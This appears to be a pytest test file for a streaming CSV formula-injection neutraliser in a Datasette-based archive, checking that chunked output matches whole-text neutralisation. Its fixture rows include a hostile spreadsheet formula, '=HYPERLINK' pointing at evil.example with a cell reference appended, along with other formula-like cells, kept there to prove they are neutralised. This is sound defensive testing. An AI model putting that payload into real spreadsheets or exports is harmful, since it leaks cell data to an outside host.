"""The streamed Excel CSV (.csvbom): neutralised record by record as Datasette's CSV arrives,
with the same bytes as neutralising the whole text at once.

The reference here is the plain reading: Python's csv module over the whole text, every
cell through export.safe_text. Chunks are cut everywhere: inside a formula cell, between
the two quotes of an escaped quote, inside a quoted newline, inside a UTF-8 character.
"""

from __future__ import annotations

import csv
import io
import random
import urllib.parse

import pytest

from nianbao.archive import export

BOM = "\ufeff".encode()


def whole(text: str) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))):
        writer.writerow([export.safe_text(v) for v in row])
    return out.getvalue()


def streamed(data: bytes, cuts: list[int]) -> str:
    stream = export.CsvNeutraliser()
    pieces, start = [], 0
    for cut in [*cuts, len(data)]:
        pieces.append(stream.feed(data[start:cut]))
        start = cut
    return "".join(pieces) + stream.close()


def datasette_like_csv(rows: list[list[object]]) -> str:
    out = io.StringIO()
    csv.writer(out).writerows(rows)  # Datasette's writer: QUOTE_MINIMAL, \r\n
    return out.getvalue()


ROWS = [
    ["id", "title", "text", "value"],
    [1, '=HYPERLINK("https://evil.example/?q="&A1,"点击")', "正文\n=第二行不是单元格开头", -5],
    [2, "+86 20 1234", '引号 "" 和逗号, 换行\r\n@SUM(A1)', "-1.5"],
    [3, "－全角减号", "=1+1", "1e5"],
    [4, "", None, "@"],
]


def test_a_formula_cell_cut_at_every_place_is_still_neutralised():
    text = datasette_like_csv(ROWS)
    data = text.encode("utf-8")
    expected = whole(text)
    assert "'=HYPERLINK(" in expected and "'+86 20" in expected and "'@SUM" not in expected
    assert ",-5\r\n" in expected and ",-1.5\r\n" in expected, "numbers stay numbers"
    for cut in range(1, len(data)):
        assert streamed(data, [cut]) == expected, cut
    assert streamed(data, list(range(1, len(data)))) == expected, "a byte at a time"
    formula = data.index(b"=HYPERLINK")
    assert streamed(data, [formula + 1, formula + 4]) == expected


def test_random_csv_cut_at_random_places_matches_the_whole_text():
    rnd = random.Random(16)
    alphabet = ["a", "=", "+", "-", "@", '"', "\n", "\r", ",", "年", "1", ".", " ", "\t", "\ufeff", "＝"]
    for _ in range(2000):
        rows = [[rnd.randint(-9, 9) if rnd.random() < 0.2 else
                 "".join(rnd.choice(alphabet) for _ in range(rnd.randint(0, 6)))
                 for _ in range(rnd.randint(1, 4))] for _ in range(rnd.randint(0, 6))]
        text = ("\ufeff" if rnd.random() < 0.1 else "") + datasette_like_csv(rows)
        text += rnd.choice(["", "error text without newline", 'an error "quoted'])
        data = text.encode("utf-8")
        places = range(1, len(data))
        cuts = sorted(rnd.sample(places, min(len(places), rnd.randint(0, 8))))
        assert streamed(data, cuts) == whole(text), text
        assert export.neutralise_csv(text) == whole(text)


CSVBOM_URLS = [
    ("/archive/applications", {}),
    ("/archive/sections", {"_search": "复议"}),
    ("/archive/applications", {"applicant": "自然人", "_facet": "row"}),
    ("/archive/reports", {"_search": "年报", "_col": "title"}),
    ("/archive/active_disclosure", {"_sort_desc": "value"}),
    ("/archive/applications_received", {}),  # a canned query
    ("/archive", {"sql": "select id, title, text from reports"}),
]


@pytest.mark.parametrize("path,params", CSVBOM_URLS)
def test_csvbom_is_the_bom_and_datasettes_own_csv_neutralised(served, served_hostile, path, params):
    """The streamed download against what the renderer answered when it buffered: BOM +
    neutralise_csv of Datasette's whole `.csv` for the same URL (every row of a table)."""
    table = path.count("/") == 2 and not path.endswith("applications_received")
    inner = {**params, "_size": "max", **({"_stream": "on"} if table else {})}
    for site in (served, served_hostile):
        status, headers, body = site.get(path + ".csvbom", **params)
        assert status == 200 and headers["content-type"] == "text/csv; charset=utf-8"
        name = path.rsplit("/", 1)[-1]
        assert headers["content-disposition"] == f'attachment; filename="{name}.csv"'
        _, _, plain = site.get(path + ".csv", **inner)
        assert body == BOM + whole(plain.decode("utf-8")).encode("utf-8"), urllib.parse.urlencode(params)
        if site is served:
            assert body.count(b"\r\n") > 1, "rows, not just the header"


def test_hostile_formulas_stay_inert_in_the_streamed_download(served_hostile):
    _, _, body = served_hostile.get("/archive/reports.csvbom")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert cells and all(export.safe_text(c) == c for c in cells), "nothing left that Excel would run"
    assert any(c.startswith("'=") for c in cells), "the hostile report's formulas are there, neutralised"
